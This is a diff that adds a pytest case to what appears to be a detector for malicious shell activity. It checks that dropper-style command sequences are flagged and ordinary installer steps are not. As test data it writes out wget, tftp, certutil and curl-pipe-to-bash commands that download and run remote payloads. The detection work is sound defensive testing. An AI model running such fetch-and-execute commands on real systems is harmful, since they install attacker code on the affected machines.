@@ -163,6 +163,27 @@ def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[st
     assert "rule-powershell-download-and-run" in {finding.id for finding in findings}
 
 
+@pytest.mark.parametrize(
+    ("lines", "expected"),
+    [
+        (("cd /tmp", "wget http://192.0.2.1/bins.sh", "chmod 777 bins.sh", "sh bins.sh"), {"shell_dropper"}),
+        (("cd /dev/shm || cd /tmp", "tftp -g -r a 192.0.2.1; chmod +x *; ./a x86"), {"shell_dropper"}),
+        (("certutil.exe /urlcache /f http://e.example/a b",), {"windows_tool_loads_from_network"}),
+        (("curl -s http://e.example/a | sudo -E bash -",), {"network_into_a_shell"}),
+        # As honest installers and builds do it.
+        (("cd /tmp", "curl -fsSL https://e.example/i.sh -o i.sh", "chmod +x i.sh", "./i.sh", "rm -f /tmp/i.sh"), set()),
+        (
+            ("wget https://e.example/a.tar.gz -O /tmp/a.tar.gz", "chmod 755 configure", "./configure", "rm -rf b/*"),
+            set(),
+        ),
+    ],
+)
+def test_commands_that_load_and_run_are_told_from_installers(
+    module: Guest, lines: tuple[str, ...], expected: set[str]
+) -> None:
+    assert set(matched(module, text(*lines))) == expected
+
+
 def test_no_benign_file_is_called_suspicious(module: Guest) -> None:
     alarms: dict[str, list[str]] = {}
     for file in benign.files():
